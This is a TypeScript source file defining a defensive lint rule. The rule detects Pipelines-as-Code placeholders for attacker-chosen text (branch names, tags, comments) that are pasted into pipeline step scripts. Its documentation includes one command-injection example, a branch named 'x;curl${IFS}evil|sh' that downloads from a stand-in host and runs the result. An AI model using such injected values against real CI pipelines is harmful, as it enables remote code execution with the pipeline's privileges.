import { EventTexts } from '../../../analysis/events/event-text';
import { programs } from '../../../analysis/scripts/pasted-text';
import { placed } from '../../../analysis/tasks/containers';
import { envName } from '../../../util/env-name';
import { quote } from '../../../util/quote';
import { defineRule } from '../../engine/rule';
import { step } from '../example';

/** Values of Pipelines-as-Code that are what somebody typed. */
const TYPED = new Set(['source_branch', 'git_tag', 'trigger_comment']);
const PLACEHOLDER = /\{\{\s*([a-z_][\w.]*)\s*\}\}/g;

export const placeholderInScript = defineRule({
  id: 'placeholder-in-script',
  severity: 'warning',
  docs: {
    title: 'A placeholder of Pipelines-as-Code puts text of an event into a script',
    why: 'Pipelines-as-Code fills placeholders in before anything reads the file. Who may name a branch or write a comment chooses that text: a branch may be called `x;curl${IFS}evil|sh`, and what stands in the script is run, with all that the task may do.',
    bad: step('name: test\nimage: golang\nscript: make test BRANCH={{ source_branch }}'),
    good: step(
      'name: test\nimage: golang\nenv:\n  - name: BRANCH\n    value: "{{ source_branch }}"\nscript: make test BRANCH="$BRANCH"',
    ),
  },
  messages: {
    pasted: (d: { placeholder: string; what: string }) =>
      `${quote(d.placeholder)} of the event becomes part of the script of ${d.what}`,
  },
  visit: ({ report }) => ({
    TaskSpec({ spec, path }) {
      for (const { container, what, path: at } of [
        ...placed(spec.steps, 'step', `${path}.steps`),
        ...placed(spec.sidecars, 'sidecar', `${path}.sidecars`),
      ])
        for (const { field, text = '' } of programs(container)) {
          if (!text.includes('{{')) continue;
          const found = [...text.matchAll(PLACEHOLDER)].find(([, value = '']) => isTyped(value));
          if (!found) continue;
          const [placeholder, value = ''] = found;
          const name = envName(value.split('.').at(-1) ?? value);
          const help = `pass it as data: env: [{ name: ${name}, value: "${placeholder}" }], and "$${name}" in the script`;
          report(
            'pasted',
            { placeholder, what },
            { path: `${at}.${field}`, text: placeholder, isPlaceholder: true, help },
          );
        }
    },
  }),
});

/** Whether somebody who sends events chooses the text of a value. */
function isTyped(value: string): boolean {
  return TYPED.has(value) || (value.startsWith('body.') && new EventTexts([]).isAnyText(value));
}
